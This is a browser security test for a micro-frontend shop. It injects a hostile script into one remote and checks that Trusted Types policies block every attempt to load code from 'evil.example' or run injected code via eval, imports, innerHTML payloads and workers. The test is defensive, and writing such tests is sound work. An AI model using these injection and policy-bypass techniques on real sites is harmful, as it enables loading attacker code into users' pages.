import { replaceEntry } from '../../shop/breakRemote.ts';
import { expect, test } from '../../test.ts';

const hostile = `;(async () => {
  const evil = 'https://evil.example/script.js';
  const rules = { createScriptURL: (url) => url };
  const element = (change) => { const script = document.createElement('script'); change(script); document.head.append(script); };
  const tries = {
    'its own policy': () => trustedTypes.createPolicy('mine', rules),
    'a default policy': () => trustedTypes.createPolicy('default', rules),
    'a second policy for itself': () => trustedTypes.createPolicy('mf_catalogue', rules),
    'a policy of another remote': () => trustedTypes.createPolicy('mf_checkout', rules),
    'a foreign URL through its policy': () => shopPolicies.mf_catalogue.createScriptURL(evil),
    'a foreign URL through the shell’s': () => shopPolicies.shell.createScriptURL(evil),
    'other policies in place of the shop’s': () => { 'use strict'; self.shopPolicies = { mf_checkout: rules }; },
    'a changed policy': () => { 'use strict'; shopPolicies.mf_checkout = rules; },
    'a foreign script element': () => element((script) => { script.src = evil; }),
    'a foreign URL as an attribute': () => element((script) => script.setAttribute('src', evil)),
    'a foreign import': () => import(evil),
    'an import of made-up code': () => import('data:text/javascript,self.intruded=true'),
    'an import of a blob': () => import(URL.createObjectURL(new Blob(['self.intruded=true'], { type: 'text/javascript' }))),
    'code in a text': () => (0, eval)('self.intruded = true'),
    'markup with code': () => { document.createElement('div').innerHTML = '<img src=x onerror="self.intruded=true">'; },
    'a worker': () => new Worker(evil),
  };
  const succeeded = [];
  for (const [what, attempt] of Object.entries(tries))
    try { await attempt(); succeeded.push(what); } catch {}
  // Inserted without an error, and then not run.
  element((script) => script.append('self.intruded = true'));
  self.hostileSucceeded = succeeded;
})();`;

interface Marks {
  hostileSucceeded?: string[];
  intruded?: boolean;
}

test('a remote’s script can neither load foreign code nor create a policy that allows it', async ({
  page,
  context,
  faults,
}) => {
  faults.expect(/./);
  await context.route('https://evil.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: 'self.intruded = true;',
    }),
  );
  await replaceEntry(context, 'mf_catalogue', (entry) => entry + hostile);
  await page.goto('/');
  const marks = () =>
    page.evaluate(() => {
      const { hostileSucceeded, intruded } = globalThis as Marks;
      return { hostileSucceeded, intruded };
    });
  await expect.poll(async () => (await marks()).hostileSucceeded).toEqual([]);
  expect((await marks()).intruded).toBe(undefined);
});
